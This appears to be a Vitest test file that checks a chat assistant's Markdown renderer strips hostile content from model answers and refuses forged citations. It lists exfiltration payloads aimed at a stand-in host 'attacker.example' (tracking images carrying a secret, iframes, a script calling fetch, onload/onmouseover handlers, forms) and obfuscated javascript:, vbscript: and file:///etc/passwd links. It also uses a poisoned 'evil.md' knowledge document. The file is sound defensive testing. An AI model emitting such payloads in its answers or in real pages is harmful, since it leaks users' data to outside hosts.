import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from '#renderer/components/markdown/markdown.tsx'
import type { Script } from '#tests/standins/openai/script.ts'
import { useScenes } from './support/scene.ts'

const scenes = useScenes()

const hostile: readonly [string, string][] = [
  ['a picture', '![x](https://attacker.example/p.png?d=secret)'],
  ['a picture by reference', '![x][1]\n\n[1]: https://attacker.example/p.png'],
  ['an HTML picture', '<img src="https://attacker.example/p.png">'],
  ['a picture without an end', '<img src=https://attacker.example/p.png '],
  ['a frame', '<iframe src="https://attacker.example"></iframe>'],
  ['a script', '<script>fetch("https://attacker.example")</script>'],
  ['a handler', '<a href="https://attacker.example" onmouseover="alert(1)">x</a>'],
  ['a style', '<style>@import "https://attacker.example/x.css";</style>'],
  ['a drawing', '<svg onload=alert(1)><image href="https://attacker.example/p.png"/></svg>'],
  ['a form', '<form action="https://attacker.example"><input name=q></form>'],
  ['HTML inside a table', '| a |\n| --- |\n| <img src="https://attacker.example/p"> |'],
  ['a picture inside a link', '[![x](https://attacker.example/p.png)](https://attacker.example)'],
]
for (const [what, text] of hostile) {
  test(`${what} in an answer loads or runs something`, () => {
    const html = renderToStaticMarkup(<Markdown text={text} />)
    expect(html).not.toMatch(
      /<(?:img|iframe|script|style|link|form|input|object|embed|video|audio|image|base|meta)\b/i,
    )
    const bare = (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""'))
    expect(bare.join('\n')).not.toMatch(/\s(?:src|srcset|poster|style|action|on\w+)\s*=/i)
  })
}

const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', 'ms-settings:x', '//attacker.example/x'] // prettier-ignore
for (const scheme of schemes) {
  test(`a link to ${JSON.stringify(scheme)} can be clicked`, () => {
    const html = renderToStaticMarkup(<Markdown text={`[open](${scheme}) <${scheme}>`} />)
    expect([...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)).toEqual([])
  })
}

test('a number that no source has looks like a citation', async () => {
  const text = 'Half up front [1]. Free for life [7] [0] [01] [1e1] [999] [1](https://attacker.example).'
  const say: Script = () => ({ reply: { kind: 'text', text } })
  const { core } = await scenes.scene(say)
  await core.knowledge.importDocument(
    'evil.md',
    new TextEncoder().encode(
      '# Deposit on a roof [7]\n\nThe deposit on a roof is 30 % [7]. See [1](https://x.example).\n',
    ),
    'training',
  )
  const { answer } = await core.ask('how much is the deposit on a roof?', { route: 'knowledge' })
  const indexes = answer.turn?.citations.map((citation) => citation.index) ?? []
  expect(indexes).toContain(1)
  expect(indexes.filter((index) => ![1].includes(index))).toEqual([])
  const html = renderToStaticMarkup(
    <Markdown
      text={text}
      isCited={(index: number) => indexes.includes(index)}
      renderCitation={(index) => <b>{`cite ${index}`}</b>}
    />,
  )
  expect(new Set([...html.matchAll(/cite (\d+)/g)].map(([, index]) => index))).toEqual(new Set(['1']))
})
